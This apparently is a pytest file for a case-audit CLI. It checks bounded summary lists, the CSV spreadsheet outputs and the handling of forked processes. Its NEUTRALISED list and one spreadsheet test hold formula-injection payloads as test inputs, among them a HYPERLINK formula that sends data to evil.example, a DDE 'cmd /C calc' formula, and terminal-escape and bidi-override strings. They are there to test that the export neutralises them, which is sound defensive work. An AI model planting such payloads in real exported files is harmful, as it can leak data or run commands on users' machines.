"""`rulebook audit`: the cross-case checks stay bounded whatever the input, and the spreadsheets
are safe to open in a spreadsheet program."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import os
import random
from fractions import Fraction
from pathlib import Path

import orjson
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from click.testing import CliRunner

from rulebook.apps.audit.files import _write_csv, spreadsheet_cell
from rulebook.apps.cli import main
from samples import make_case

from ..conftest import EXAMPLES

LISTED, SHOWN = 1000, 10  # entries of a list in summary.json; cases or places of an entry


def audit(*args) -> None:
    result = CliRunner().invoke(main, ["audit", *map(str, args)], catch_exceptions=False)
    assert result.exit_code in (0, 1, 3), result.output


def write_jsonl(path: Path, cases: list[dict]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(case) + b"\n" for case in cases))
    return path


def sheet(path: Path) -> list[list[str]]:
    """The rows of a spreadsheet the audit wrote, without its header."""
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]


def the_seed() -> dict:
    return orjson.loads(orjson.dumps(yaml.safe_load((EXAMPLES / "seed-case.yaml").read_text(encoding="utf-8"))))


def expected_findings(cases: list[dict], bound: float) -> list[tuple]:
    """(expert, day, hours, sorted case ids) of every day over the bound, the slow, plain way: on
    each day a step of an expert starts, add up the hours a day of every step of that expert
    running then."""
    steps: dict[str, list] = {}
    for case in cases:
        who = case["expert"].get("lancers_user") or case["expert"]["name"]
        for step in case.get("steps") or []:
            first = step.get("started_on")
            last = step.get("completion_reported_on") or step.get("planned_end_on")
            if first and last and last >= first:
                days = (dt.date.fromisoformat(last) - dt.date.fromisoformat(first)).days + 1
                steps.setdefault(who, []).append((first, last, Fraction(step["hours"]) / days, case["case_id"]))
    found = []
    for who in sorted(steps):
        for day in sorted({first for first, *_ in steps[who]}):
            running = [s for s in steps[who] if s[0] <= day <= s[1]]
            total = sum(s[2] for s in running)
            if total > bound:
                found.append((who, day, float(total), sorted({s[3] for s in running})))
    return found


def test_implausible_hours_are_found_once_per_expert_and_day_with_the_first_cases_and_a_count(tmp_path):
    rng = random.Random(43)
    # 400 cases of one expert, all begun within 20 days: their steps overlap on most days.
    cases = [make_case(rng, i, expert=0, days=20) for i in range(400)]
    out = tmp_path / "out"
    audit(write_jsonl(tmp_path / "cases.jsonl", cases), "--out", out, "--jobs", "2", "--chunk-size", "50",
          "--compact")
    expected = expected_findings(cases, 24.0)
    assert len(expected) > 20 and max(len(f[3]) for f in expected) > 100  # the case lists would be long
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    found = summary["implausible_hours"]
    assert summary["implausible_hours_total"] == len(found) == len(expected)
    for entry, (who, day, hours, ids) in zip(found, expected):
        assert (entry["expert"], entry["day"], entry["bound"]) == (who, day, 24.0)
        assert entry["hours"] == pytest.approx(hours, abs=0.006)
        assert entry["case_count"] == len(ids) and entry["cases"] == ids[:SHOWN]
    rows = sheet(out / "hours.csv")
    assert [(r[0], r[1], float(r[2]), int(r[4]), r[5].split()) for r in rows] == [
        (e["expert"], e["day"], e["hours"], e["case_count"], e["cases"]) for e in found]


def _bounded(value, path: str = "") -> list[str]:
    """The paths of the lists in a JSON value longer than summary.json allows."""
    too_long = []
    if isinstance(value, dict):
        for key, item in value.items():
            too_long += _bounded(item, f"{path}.{key}")
    elif isinstance(value, list):
        limit = SHOWN if path.endswith((".cases", ".where")) else LISTED
        if len(value) > limit:
            too_long.append(f"{path} ({len(value)})")
        for item in value:
            too_long += _bounded(item, f"{path}[]")
    return too_long


def test_every_list_of_the_summary_and_the_report_is_bounded_and_the_spreadsheets_hold_every_entry(tmp_path):
    seed = the_seed()

    def copy_of(i: int, capture: bool) -> dict:
        case = copy.deepcopy(seed)
        case["case_id"] = f"C-{i:05d}"
        case["expert"]["lancers_user"] = f"expert-{i:05d}"
        case["steps"][0]["payment_capture_attached"] = capture
        return case

    # 1,100 experts, each case of them given twice (a duplicate id), and the first case 30 times;
    # with a bound of 1 hour a day each expert's days are implausible (40 hours over 33 days).
    before = [copy_of(i, True) for i in range(1100)]
    now = [copy_of(i, False) for i in range(1100) for _ in range(2)] + [copy_of(0, False)] * 28
    write_jsonl(tmp_path / "before.jsonl", before)
    write_jsonl(tmp_path / "now.jsonl", now)
    audit(tmp_path / "before.jsonl", "--out", tmp_path / "before", "--jobs", "1", "--compact")
    out = tmp_path / "now"
    audit(tmp_path / "now.jsonl", "--out", out, "--jobs", "2", "--compact", "--hours-per-day", "1",
          "--since", tmp_path / "before", "--lang", "en")
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert _bounded(summary) == []
    assert (len(summary["implausible_hours"]), summary["implausible_hours_total"]) == (LISTED, 1100)
    assert (len(summary["duplicates"]), summary["duplicates_total"]) == (LISTED, 1100)
    first = summary["duplicates"][0]
    assert first["case_id"] == "C-00000" and first["count"] == 30 and len(first["where"]) == SHOWN
    assert first["where"][:2] == [f"{tmp_path / 'now.jsonl'}:1", f"{tmp_path / 'now.jsonl'}:2"]
    since = summary["since"]
    assert (len(since["changed"]), since["changed_total"]) == (LISTED, len(now))
    # each case now fails the payment capture of its step, and so the honorarium it claims
    assert since["new_failures"][:2] == [{"case_id": "C-00000", "rule": "claim.honorarium", "subject": "case"},
                                         {"case_id": "C-00000", "rule": "final.payment-capture", "subject": "step:1"}]
    assert (len(since["new_failures"]), since["new_failures_total"]) == (LISTED, 2 * len(now))
    # the spreadsheets hold every entry
    assert len(sheet(out / "hours.csv")) == 1100
    duplicates = sheet(out / "duplicates.csv")
    assert len(duplicates) == len(now) and duplicates[0][:2] == ["C-00000", "30"]
    assert [r[2] for r in duplicates[:30]] == [f"{tmp_path / 'now.jsonl'}:{n}" for n in [1, 2, *range(2201, 2229)]]
    changes = sheet(out / "changes.csv")
    assert len(changes) == len(now) and changes[0] == ["C-00000", "eligible", "ineligible",
                                                       "claim.honorarium@case final.payment-capture@step:1"]
    # every batch rule's findings: the first 1,000 in summary.json, all of them in findings.csv
    findings = {rule["rule"]: rule for rule in summary["findings"]}
    for rule in ("batch.duplicate-case-id", "batch.implausible-hours"):
        assert (len(findings[rule]["entries"]), findings[rule]["entries_total"]) == (LISTED, 1100)
    assert findings["batch.duplicate-case-id"]["entries"][0]["figures"] == {"times": 30}
    assert len(sheet(out / "findings.csv")) == 2200
    # the report shows the lists of the summary, and says where the rest are
    html = (out / "report.html").read_text(encoding="utf-8")
    assert html.count("The first 1,000 are shown; all 1,100 are in findings.csv.") == 2
    assert f"The first 1,000 are shown; all {len(now):,} are in changes.csv." in html
    assert html.count('<a class="cid"') <= 100 + 1000 * SHOWN * 2 + 2000  # bounded, whatever the input


NEUTRALISED = [
    ('=HYPERLINK("http://evil.example/?"&A1,"open")', '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\\x09=1"),
    ("\r=1", "'\\x0d=1"),
    ("ok\x1b]0;owned\x07", "ok\\x1b]0;owned\\x07"),
    ("abc\u202edef", "abc\\u202edef"),
    ("a\u2066b\u2069", "a\\u2066b\\u2069"),
    ("two\nlines", "two\\x0alines"),
    ("株式会社サンプル", "株式会社サンプル"),
    ("a, \"quoted\" = 1", "a, \"quoted\" = 1"),
    ("", ""),
    (-5, -5),
    (60000, 60000),
    (2.5, 2.5),
]


@pytest.mark.parametrize("value, cell", NEUTRALISED)
def test_a_spreadsheet_cell_is_text_that_runs_nothing_and_numbers_stay_numbers(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("risky", [value for value, cell in NEUTRALISED if value != cell])
def test_one_risky_cell_in_a_block_of_thousands_is_neutralised(tmp_path, risky):
    rows = [(f"name {i}", i, "x, =y") for i in range(5000)]
    rows[4500] = (risky, -1, "x, =y")  # in the second block of rows
    _write_csv(tmp_path / "sheet.csv", ["name", "n", "note"], iter(rows), text=(0, 2))
    assert sheet(tmp_path / "sheet.csv") == [[spreadsheet_cell(a), str(b), c] for a, b, c in rows]


def test_the_spreadsheets_neutralise_formulas_and_control_characters_from_the_input(tmp_path, monkeypatch):
    seed = the_seed()
    risky = [("=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "\t=1"), ("@SUM(A1)", "-2+3", "\r=1"),
             ("-2+3", "=1+1", "evil\u202etxt.exe"), ("C-1", "ok", "two\nlines, =quoted")]
    cases = []
    for case_id, expert, sme in risky:
        case = copy.deepcopy(seed)
        case["case_id"], case["expert"]["lancers_user"], case["sme"]["name"] = case_id, expert, sme
        cases += [case, case]  # twice: duplicates.csv lists them
    write_jsonl(tmp_path / "=cases.jsonl", cases)
    monkeypatch.chdir(tmp_path)  # the input named as given, a formula too
    out = tmp_path / "out"
    audit("=cases.jsonl", "--out", out, "--jobs", "1", "--hours-per-day", "1")
    rows = sheet(out / "cases.csv")
    assert [(r[0], r[6], r[7]) for r in rows[::2]] == [tuple(spreadsheet_cell(v) for v in row) for row in risky]
    assert rows[0][:9] == ['\'=HYPERLINK("http://evil.example","x")', "謝金対象", "", "140000", "140000", "140000",
                           "'+1", "'\\x09=1", "'=cases.jsonl:1"]
    assert rows[2][7] == "'\\x0d=1" and rows[4][7] == "evil\\u202etxt.exe"
    # amounts are numbers: written bare, never quoted or prefixed
    raw = (out / "cases.csv").read_text(encoding="utf-8-sig")
    assert ',140000,140000,140000,' in raw
    assert {r[0] for r in sheet(out / "experts.csv")} == {"'+1", "'-2+3", "'=1+1", "ok"}
    assert [r[1:] for r in sheet(out / "experts.csv")][0] == ["2", "0", "280000", "280000", "280000"]
    assert {r[0] for r in sheet(out / "smes.csv")} == {"'\\x09=1", "'\\x0d=1", "evil\\u202etxt.exe",
                                                       "two\\x0alines, =quoted"}
    assert {r[0] for r in sheet(out / "duplicates.csv")} == {spreadsheet_cell(r[0]) for r in risky}
    assert {(r[0], r[5]) for r in sheet(out / "hours.csv")} == {
        (spreadsheet_cell(expert), spreadsheet_cell(case_id)) for case_id, expert, _sme in risky}
    # the input's file name is text from the user too
    assert [r[8] for r in rows] == [f"'=cases.jsonl:{n}" for n in range(1, 9)]


_CELL = st.one_of(st.text(max_size=6), st.integers(), st.none(), st.booleans(), st.floats(allow_nan=False),
                 st.sampled_from(['"', ",", "\r", "\n", "a,b", "", " x", "\x00", "謝金"]))


@given(st.integers(1, 4).flatmap(lambda width: st.lists(st.tuples(*[_CELL] * width), max_size=6))
       | st.lists(st.lists(_CELL, min_size=1, max_size=4).map(tuple), max_size=6))
@settings(max_examples=500)
def test_rows_encoded_are_what_the_csv_module_writes(rows):
    """`sheets.encode_rows` joins plain rows itself (faster than the csv module) and leaves the
    others to it: the bytes are the csv module's either way."""
    import csv
    import io

    from rulebook.apps.audit.sheets import encode_rows

    block = io.StringIO()
    csv.writer(block, lineterminator="\r\n").writerows(rows)
    assert encode_rows(rows, ()) == block.getvalue().encode("utf-8")


_TEXT = st.one_of(st.text(max_size=6), st.sampled_from(['"', ",", "\r", "\n", "a,b", "", "=1", "-2", "@x", "\t",
                                                        "\x1b", "\u202e", "12", "謝金"]))


@given(st.integers(2, 4).flatmap(lambda width: st.lists(st.tuples(*[_TEXT] * width), min_size=1, max_size=6)),
       st.sets(st.integers(0, 3)))
@settings(max_examples=500)
def test_rows_of_text_encoded_are_what_the_csv_module_writes_of_their_safe_cells(rows, text):
    """Rows whose cells are all text (cases.csv's: its amounts are their digits) are joined in
    one go, and the columns `text` made safe first: the bytes are the csv module's of the rows
    with those cells neutralised, whatever the cells hold."""
    import csv
    import io

    from rulebook.apps.audit.sheets import encode_rows

    text = tuple(sorted(i for i in text if i < len(rows[0])))
    block = io.StringIO()
    csv.writer(block, lineterminator="\r\n").writerows(
        [[spreadsheet_cell(cell) if i in text else cell for i, cell in enumerate(row)] for row in rows])
    assert encode_rows(rows, text) == block.getvalue().encode("utf-8")


# ------------------------------------------- the batch rules searched for in forked processes


@pytest.fixture(scope="module")
def judged_folder(tmp_path_factory) -> Path:
    """An audit's folder (one job) whose three batch rules all have findings: repeated ids, one
    expert's overlapping steps, SMEs over their cap."""
    tmp_path = tmp_path_factory.mktemp("judged")
    rng = random.Random(47)
    cases = [make_case(rng, i, expert=i % 3, days=20) for i in range(240)]
    cases += [copy.deepcopy(c) for c in cases[:25]]
    seed = the_seed()  # 140,000 yen due: 12 SMEs of 3 cases each over the cap
    for i in range(36):
        case = copy.deepcopy(seed)
        case["case_id"], case["sme"]["name"] = f"CAP-{i}", f"SME {i % 12}"
        cases.append(case)
    audit(write_jsonl(tmp_path / "cases.jsonl", cases), "--out", tmp_path / "out", "--jobs", "1", "--compact")
    return tmp_path / "out"


def _search(folder: Path, jobs: int, monkeypatch=None):
    """(the findings the ledger keeps, by rule, the rules not evaluated, the search's processes) of
    a `Search` of the batch rules with `jobs`, over the ledger of `folder`."""
    import rulebook
    from rulebook.apps.audit.checks import Search, parameters
    from rulebook.apps.audit.ledger import Ledger

    book = rulebook.load()
    ledger = Ledger(folder)
    try:
        ledger.prepare_batch([book.batch.layout(r.index) for r in book.plan.batch_rules],
                             [r.index for r in book.plan.batch_rules if r.case_keyed])
        search = Search(book, ledger, parameters(book, ledger, None), jobs)
        processes = len(search.children)
        not_evaluated = search.finish()
        found = {rule.id: list(ledger.findings(rule.index)) for rule in book.plan.batch_rules}
    finally:
        ledger.close()
    return found, not_evaluated, processes


@pytest.mark.parametrize("jobs, processes", [(2, 1), (3, 2), (8, 3)])
def test_the_findings_searched_for_in_forked_processes_are_those_found_in_one(judged_folder, jobs, processes,
                                                                             monkeypatch):
    """Every rule's findings, in order, whoever found them and however many blocks they were sent
    in (`_BATCH` made small: many blocks, one rule's blocks after another's in one process)."""
    from rulebook.apps.audit import checks

    monkeypatch.setattr(checks, "_BATCH", 7)
    alone, not_evaluated, none = _search(judged_folder, 1)
    assert none == 0 and not_evaluated == {}
    assert all(len(found) > 7 for found in alone.values()), {rule: len(found) for rule, found in alone.items()}
    forked = _search(judged_folder, jobs)
    assert forked == (alone, {}, processes)


def test_a_forked_search_that_ends_early_or_fails_stops_the_audit_with_a_message_not_a_hang(judged_folder,
                                                                                           monkeypatch):
    from rulebook.apps.audit import checks
    from rulebook.apps.audit.options import AuditError

    monkeypatch.setattr(checks, "_found", lambda *args: os._exit(3))
    with pytest.raises(AuditError) as error:
        _search(judged_folder, 2)
    assert "batch.duplicate-case-id" in error.value.en and "exit code 3" in error.value.en
    assert "終了コード 3" in error.value.ja

    def broken(*args):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(checks, "_found", broken)
    with pytest.raises(RuntimeError, match="ZeroDivisionError: a bug"):
        _search(judged_folder, 2)


_HELD_SEARCH = """
import os, sys, threading
from pathlib import Path
import rulebook
from rulebook.apps.audit import checks
from rulebook.apps.audit.ledger import Ledger

def held(*args):  # the forked process: says it is there, then never ends of itself
    print(os.getpid(), flush=True)
    threading.Event().wait()

checks._found = held
book = rulebook.load()
ledger = Ledger(Path(sys.argv[1]))
ledger.prepare_batch([book.batch.layout(r.index) for r in book.plan.batch_rules],
                     [r.index for r in book.plan.batch_rules if r.case_keyed])
checks.Search(book, ledger, checks.parameters(book, ledger, None), 2).finish()
"""


_HELD_PEOPLE = """
import os, sys, threading
from pathlib import Path
from rulebook.apps.audit import files
from rulebook.apps.audit.ledger import Ledger
from rulebook.apps.audit.options import Options

def held(*args):  # the forked process: says it is there, then never ends of itself
    print(os.getpid(), flush=True)
    threading.Event().wait()

files._people = held
folder = Path(sys.argv[1])
files.People(folder, Ledger(folder), Options(inputs=[], out=folder), 2).finish()
"""


@pytest.mark.skipif(not os.path.isdir("/proc"), reason="looks at the process through /proc")
@pytest.mark.parametrize("held", [_HELD_SEARCH, _HELD_PEOPLE], ids=["search", "people"])
def test_the_search_s_process_ends_when_the_audit_is_killed(judged_folder, tmp_path, held):
    """An audit killed with -9 at its end leaves no process of its search (or of the people's
    totals) behind (it ends within a second or so: it watches its parent), and nothing in the
    folder it could block."""
    import shutil
    import signal
    import subprocess
    import sys

    from ..eventually import wait_for

    folder = tmp_path / "out"
    shutil.copytree(judged_folder, folder)
    audit_process = subprocess.Popen([sys.executable, "-c", held, str(folder)], stdout=subprocess.PIPE)
    try:
        child = int(audit_process.stdout.readline())
    finally:
        os.kill(audit_process.pid, signal.SIGKILL)
        audit_process.wait()

    def gone() -> bool:
        try:
            with open(f"/proc/{child}/stat", "rb") as fh:
                return fh.read().rsplit(b")", 1)[1].split()[0] == b"Z"
        except OSError:
            return True

    wait_for(gone, "the search's process to end", timeout=30)


def test_a_failed_search_ends_its_other_processes_rather_than_wait_for_them(judged_folder, monkeypatch):
    """One process fails while another has long to go (here: forever): the audit says what
    failed and ends the other, instead of waiting for it."""
    import threading

    from rulebook.apps.audit import checks

    real = checks._found

    def found(book, ledger, params, texts, rule):
        if rule.index == 0:
            raise ZeroDivisionError("a bug")
        if rule.index == 1:
            threading.Event().wait()
        return real(book, ledger, params, texts, rule)

    monkeypatch.setattr(checks, "_found", found)
    with pytest.raises(RuntimeError, match="ZeroDivisionError: a bug"):
        _search(judged_folder, 3)  # rules 0 and 2 in one process, 1 in the other


# ------------------------------------- the people's totals and sheets made in forked processes


def _people(judged: Path, folder: Path, jobs: int, lang: str = "ja"):
    """(experts.csv, smes.csv, summary.json's part of them, how many processes made them) of a
    `People` with `jobs`, over a copy of the ledger of `judged` in `folder`."""
    import shutil

    from rulebook.apps.audit.files import People
    from rulebook.apps.audit.ledger import Ledger
    from rulebook.apps.audit.options import Options

    shutil.copytree(judged, folder)
    for name in ("experts.csv", "smes.csv"):
        (folder / name).unlink()
    ledger = Ledger(folder)
    try:
        people = People(folder, ledger, Options(inputs=[], out=folder, lang=lang), jobs)
        processes = len(people.children)
        totals = people.finish()
        assert people.children == []
    finally:
        ledger.close()
    return (folder / "experts.csv").read_bytes(), (folder / "smes.csv").read_bytes(), totals, processes


@pytest.mark.parametrize("groups", [(("expert",), ("sme",)), (("expert", "sme"),), (("sme",),)])
def test_the_people_s_sheets_and_totals_made_in_forked_processes_are_those_made_in_one(judged_folder, tmp_path,
                                                                                      groups, monkeypatch):
    """The same sheets and summary.json's part, with the list cut short (SUMMARY_PEOPLE made
    small: the processes send the first ones, the counts of all) — one process for each kind,
    one for both, or one for the SMEs with the experts' made by the audit's own."""
    from rulebook.apps.audit import files, summary

    monkeypatch.setattr(files, "PEOPLE_PROCESSES", groups)
    monkeypatch.setattr(summary, "SUMMARY_PEOPLE", 3)
    for lang in ("ja", "en"):
        experts, smes, totals, none = _people(judged_folder, tmp_path / f"one-{lang}", 1, lang)
        assert none == 0
        assert len(totals["experts"]) == len(totals["smes"]) == 3
        assert totals["smes_total"] > 200 and totals["experts_total"] > 3
        assert smes.count(b"\r\n") == totals["smes_total"] + 1  # (the header)
        assert _people(judged_folder, tmp_path / f"two-{lang}", 2, lang) == (experts, smes, totals, len(groups))
        assert experts == (judged_folder / "experts.csv").read_bytes() or lang != "ja"  # (the audit's own, in ja)


def test_the_people_s_processes_open_the_ledger_read_only(judged_folder, tmp_path):
    """Their connection may make temporary tables (the totals are grouped into one), never write
    the ledger."""
    import shutil
    import sqlite3

    from rulebook.apps.audit.ledger import Ledger

    shutil.copytree(judged_folder, tmp_path / "out")
    ledger = Ledger(tmp_path / "out", read_only=True, temporary=True)
    try:
        assert ledger.people_count("sme") > 200
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            ledger.set("anything", 1)
    finally:
        ledger.close()


def test_a_people_s_process_that_dies_or_fails_stops_the_audit_with_a_message_not_a_hang(judged_folder, tmp_path,
                                                                                        monkeypatch):
    from rulebook.apps.audit import files
    from rulebook.apps.audit.options import AuditError

    monkeypatch.setattr(files, "PEOPLE_PROCESSES", (("expert",), ("sme",)))
    real = files._write_people

    def dies(folder, ledger, column, lang):
        if column == "sme":
            os._exit(3)
        real(folder, ledger, column, lang)

    monkeypatch.setattr(files, "_write_people", dies)
    with pytest.raises(AuditError) as error:
        _people(judged_folder, tmp_path / "dies", 2)
    assert "`smes.csv`" in error.value.en and "exit code 3" in error.value.en
    assert "`smes.csv`" in error.value.ja and "終了コード 3" in error.value.ja
    assert not (tmp_path / "dies" / "smes.csv").exists()  # (written whole or not at all)

    def broken(*args):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(files, "_write_people", broken)
    with pytest.raises(RuntimeError, match="ZeroDivisionError: a bug"):
        _people(judged_folder, tmp_path / "broken", 2)

    def full(*args):  # said as the audit says a file it cannot write
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files, "_write_people", full)
    with pytest.raises(OSError, match="No space left on device"):
        _people(judged_folder, tmp_path / "full", 2)


def test_a_failed_search_ends_the_people_s_processes_rather_than_wait_for_them(judged_folder, tmp_path,
                                                                               monkeypatch):
    """The batch rules' process fails while the people's has long to go (here: forever): the
    audit's end says what failed, and ends the people's process."""
    import importlib
    import shutil
    import threading

    import rulebook
    from rulebook.apps.audit import checks, files
    from rulebook.apps.audit.ledger import Ledger
    from rulebook.apps.audit.options import Options, Timings

    started, me, real = [], os.getpid(), files._write_people

    def held(*args):  # in a forked process: never ends of itself
        if os.getpid() == me:
            return real(*args)
        threading.Event().wait()

    def broken(*args):
        raise ZeroDivisionError("a bug")

    real_start = files.start

    def start(*args):
        started.append(real_start(*args))
        return started[-1]

    run = importlib.import_module("rulebook.apps.audit.run")  # (the package's `run` is the function)
    monkeypatch.setattr(files, "_write_people", held)
    monkeypatch.setattr(files, "start", start)
    monkeypatch.setattr(checks, "_found", broken)
    folder = tmp_path / "out"
    shutil.copytree(judged_folder, folder)
    book = rulebook.load()
    ledger = Ledger(folder)
    try:
        ledger.prepare_batch([book.batch.layout(r.index) for r in book.plan.batch_rules],
                             [r.index for r in book.plan.batch_rules if r.case_keyed])
        with pytest.raises(RuntimeError, match="ZeroDivisionError: a bug"):
            run.finish(Options(inputs=[], out=folder, compact=True), folder, ledger, Timings(), book, 2)
    finally:
        ledger.close()
    assert started and all(child.process.exitcode is not None for child in started)
